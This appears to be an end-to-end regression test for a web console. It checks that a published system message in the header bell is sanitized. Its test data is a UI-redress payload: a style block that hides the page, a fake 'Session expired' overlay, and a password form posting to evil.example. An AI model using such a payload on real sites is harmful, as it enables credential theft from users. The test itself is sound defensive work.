import { beforeEach, describe, expect, test } from 'vitest';
import type { Browser } from 'playwright-core';
import { apiToken, e2eLifecycle, openSignedIn, resetMock, shot, type E2EServer } from './harness.js';

/**
 * The header bell rendered a published system message with DOMPurify's
 * defaults, so a `<style>` restyled the whole console, a `style=` overlay covered it and a form was
 * kept (UI redress for every recipient). It renders through the kit's SafeHtml now. Real Chromium:
 * happy-dom's DOM does not honour the sanitizer's configuration, so only a browser proves it.
 */

let server: E2EServer;
let browser: Browser;
e2eLifecycle({}, (s, b) => {
  server = s;
  browser = b;
});
beforeEach(async () => {
  await resetMock(server);
});

const HOSTILE =
  '<style>body{display:none !important}</style>' +
  '<p style="position:fixed;inset:0;z-index:99999;background:#fff" id="shield-overlay">Session expired, sign in again</p>' +
  '<form action="https://evil.example/steal" id="shield-form"><input name="password" type="password"><button type="submit">Sign in</button></form>' +
  '<p><b>Maintenance tonight</b> from 23:00</p>';

describe('the header bell', () => {
  test('a published <style>, style= overlay or <form> does not survive in the bell; the text does', async () => {
    const token = await apiToken(server);
    const res = await fetch(`${server.url}/v1/systemMessage/add`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: token },
      body: JSON.stringify({ title: 'Shield notice', content: HOSTILE, level: 1, targetRoleIds: [], status: 1 }),
    });
    expect(((await res.json()) as { code: number }).code).toBe(200);

    const { page, errors } = await openSignedIn(browser, server, '/home/work');
    await page.locator('[data-testid=message-bell]').click();
    await page.locator('[data-testid=message-item]', { hasText: 'Shield notice' }).click();
    const content = page.locator('[data-testid=message-content]');
    await content.waitFor();
    await expect(content.locator('b').textContent()).resolves.toBe('Maintenance tonight');
    const found = await content.evaluate((el) => ({
      styles: el.querySelectorAll('style').length,
      styled: el.querySelectorAll('[style]').length,
      forms: el.querySelectorAll('form, input, button').length,
      text: el.textContent,
    }));
    expect(found).toMatchObject({ styles: 0, styled: 0, forms: 0 });
    expect(found.text).toContain('Session expired, sign in again');
    expect(found.text).not.toContain('display:none');
    // The console is still there and nothing covers it.
    await expect(page.evaluate(() => getComputedStyle(document.body).display)).resolves.not.toBe('none');
    await expect(page.locator('#shield-overlay[style], #shield-form').count()).resolves.toBe(0);
    await shot(page, 'shield-bell-hostile');
    expect(errors).toEqual([]);
  });
});
